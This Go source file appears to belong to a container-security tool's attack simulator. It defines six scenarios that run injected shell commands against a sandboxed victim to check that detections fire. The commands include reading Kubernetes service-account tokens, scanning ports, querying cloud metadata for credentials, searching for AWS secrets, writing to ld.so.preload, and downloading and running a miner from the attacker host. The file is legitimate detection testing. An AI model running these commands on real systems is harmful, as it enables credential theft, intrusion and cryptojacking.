// Package simulate plays attack scenarios against a sandboxed victim so
// operators (and the acceptance test) can see Harrier's detections fire end
// to end: behaviour in real containers, the node sensor, analytics, the
// uplink, and the backend API where the alerts are read back.
//
// Locally the victim and the attacker are runc containers, each in its own
// network namespace, joined by a veth pair. Every address the simulation
// uses (the sandbox subnet, the fake metadata service, the fake DNS server)
// exists only inside those namespaces, and nothing harmful runs: the "miner"
// prints a line and connects once to the attacker's fake pool.
//
// simulate may import api and analytics constants, never sensor, store or
// transport: it sees Harrier only through the backend API, as a user does.
package simulate

import (
	"fmt"
	"slices"
	"strings"

	"github.com/harrier-sec/harrier/analytics"
)

// Scenario is one attack story of DETECTIONS.md's simulation table.
type Scenario struct {
	// Name is what --scenario takes.
	Name string
	// Title is the table's name for it.
	Title string
	// Expected are the alerts the scenario must raise locally.
	Expected []string
	// Explained are alerts the same behaviour may also raise, legitimately:
	// they are reported, not counted as unexpected.
	Explained []string
	// ClusterOnly are expected alerts that need a Kubernetes control plane
	// (audit detections); local mode lists them as not checked.
	ClusterOnly []string
	// Steps are the commands injected through the victim's web shell.
	Steps func(env stepEnv) []Step
}

// Step is one request to the victim's vulnerable endpoint.
type Step struct {
	// Command is what the injection makes the victim's shell run.
	Command string
	// Raises are the detections this step is the behaviour of: their
	// latency is measured from when the request was sent.
	Raises []string
}

// stepEnv is what the steps need to know about the sandbox.
type stepEnv struct {
	attacker string // the attacker's address on the victim's link
	subnet   string // first three octets of the victim's /24
	curl     bool   // the victim has curl
	nmap     bool   // the victim has nmap
	miner    string // the file name the miner is served under
	// In a cluster only (empty locally):
	// scanHosts are the hosts the scan may touch (the attacker pod and
	// the victim itself, never a subnet);
	scanHosts []string
	// apiServer is the real API server's base URL as the victim's shell
	// spells it (from the pod's environment).
	apiServer string
}

const tokenPath = "/var/run/secrets/kubernetes.io/serviceaccount/token"

// Scenarios returns the six scenarios in the order they run.
func Scenarios() []Scenario {
	return []Scenario{
		{
			Name: "recon", Title: "reconnaissance",
			Expected:    []string{"web-shell", "network-scan", "sa-token-access"},
			ClusterOnly: []string{"sa-suspicious-op"},
			// The fake API server on 6443 is asked with the token just
			// read: exactly the token → API sequence.
			Explained: []string{"k8s-api-from-container"},
			Steps: func(e stepEnv) []Step {
				review := `{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","spec":{"namespace":"default"}}`
				url := "http://" + e.attacker + ":6443/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"
				tls := ""
				if e.apiServer != "" {
					// The real API server, with the pod's own token: an
					// audit event of its service account.
					url = e.apiServer + "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"
					tls = "--no-check-certificate "
				}
				ask := "wget -q -O- " + tls + "--header \"Authorization: Bearer $(cat " + tokenPath + ")\" --header 'Content-Type: application/json' --post-data '" + review + "' " + url
				if e.curl {
					ask = "curl -s -H \"Authorization: Bearer $(cat " + tokenPath + ")\" -H 'Content-Type: application/json' -d '" + review + "' " + url
				}
				scan := fmt.Sprintf("for h in 1 2; do nc -z -w 1 %s.$h 20-1024; done; echo scanned", e.subnet)
				if e.nmap {
					scan = fmt.Sprintf("nmap -sT -Pn -n --max-retries 0 -p 20-1024 %s.1-2", e.subnet)
				}
				if len(e.scanHosts) > 0 {
					scan = fmt.Sprintf("for h in %s; do nc -z -w 1 $h 20-1024; done; echo scanned", strings.Join(e.scanHosts, " "))
				}
				return []Step{
					{Command: "id; whoami; uname -a", Raises: []string{"web-shell"}},
					{Command: "cat " + tokenPath, Raises: []string{"sa-token-access"}},
					{Command: ask, Raises: []string{"k8s-api-from-container", "sa-suspicious-op"}},
					{Command: scan, Raises: []string{"network-scan"}},
				}
			},
		},
		{
			Name: "lateral", Title: "lateral movement",
			Expected: []string{"web-shell", "cloud-metadata"},
			Steps: func(e stepEnv) []Step {
				get := "wget -q -O- "
				if e.curl {
					get = "curl -s "
				}
				return []Step{
					{Command: "hostname; ip route 2>/dev/null || route -n", Raises: []string{"web-shell"}},
					{Command: get + "http://169.254.169.254/latest/meta-data/iam/security-credentials/", Raises: []string{"cloud-metadata"}},
				}
			},
		},
		{
			Name: "secrets", Title: "secrets gathering",
			Expected: []string{"web-shell", "sensitive-files", "secret-recon"},
			Steps: func(stepEnv) []Step {
				return []Step{
					{Command: "find / -xdev -path '*/.aws/credentials' 2>/dev/null", Raises: []string{"web-shell", "secret-recon"}},
					{Command: "grep -rl AWS_SECRET_ACCESS_KEY /home /etc /www 2>/dev/null; env | grep -i -e secret -e key", Raises: []string{"secret-recon", "sensitive-files"}},
					{Command: "cat $HOME/.aws/credentials /home/app/.aws/credentials 2>/dev/null", Raises: []string{"sensitive-files"}},
				}
			},
		},
		{
			Name: "mining", Title: "crypto mining",
			Expected: []string{"web-shell", "cpu-optimization", "ld-preload", "miner-download", "drift-binary", "mining"},
			// Downloading, chmod +x and running is download-exec; modprobe
			// from a container is kernel-module.
			Explained: []string{"download-exec", "kernel-module"},
			Steps: func(e stepEnv) []Step {
				return []Step{
					// All of these fail as the non-root web user: the
					// attempts are what must alert.
					// A path, not a bare name: busybox's shell would run its
					// modprobe applet in-process, without an exec to see.
					{Command: "/bin/modprobe msr allow_writes=on", Raises: []string{"web-shell", "cpu-optimization"}},
					{Command: "echo 1280 > /proc/sys/vm/nr_hugepages", Raises: []string{"cpu-optimization"}},
					{Command: "echo /tmp/.x/libhide.so > /etc/ld.so.preload", Raises: []string{"ld-preload"}},
					{Command: fmt.Sprintf("cd /tmp && wget -q http://%s:8000/%s && chmod +x %s && ./%s --donate-level 1 -o stratum+tcp://%s:3333 -k",
						e.attacker, e.miner, e.miner, e.miner, e.attacker),
						Raises: []string{"miner-download", "download-exec", "drift-binary", "mining"}},
				}
			},
		},
		{
			Name: "webshell", Title: "web shell",
			Expected: []string{"web-shell"},
			Steps: func(stepEnv) []Step {
				return []Step{{Command: "id; ls -la /www /www/cgi-bin", Raises: []string{"web-shell"}}}
			},
		},
		{
			Name: "threat-intel", Title: "threat-intel domain",
			Expected: []string{"ioc-domain"},
			// The lookup is made through the web shell too.
			Explained: []string{"web-shell"},
			Steps: func(stepEnv) []Step {
				// wget resolves with the C library's resolver, which
				// sends the query with sendmmsg/sendto (busybox nslookup
				// uses write, which the sensor does not hook).
				return []Step{{Command: "wget -q -O- http://" + analytics.IOCTestDomain + ":8000/", Raises: []string{"ioc-domain"}}}
			},
		},
	}
}

// ParseScenarios turns --scenario's value ("all" or names separated by
// commas) into scenarios, in their canonical order.
func ParseScenarios(names []string) ([]Scenario, error) {
	all := Scenarios()
	var valid []string
	for _, s := range all {
		valid = append(valid, s.Name)
	}
	want := map[string]bool{}
	for _, n := range names {
		n = strings.TrimSpace(n)
		switch {
		case n == "all":
			for _, v := range valid {
				want[v] = true
			}
		case slices.Contains(valid, n):
			want[n] = true
		default:
			return nil, fmt.Errorf("unknown scenario %q (want all or some of %s)", n, strings.Join(valid, ", "))
		}
	}
	if len(want) == 0 {
		return nil, fmt.Errorf("no scenario chosen (want all or some of %s)", strings.Join(valid, ", "))
	}
	var out []Scenario
	for _, s := range all {
		if want[s.Name] {
			out = append(out, s)
		}
	}
	return out, nil
}
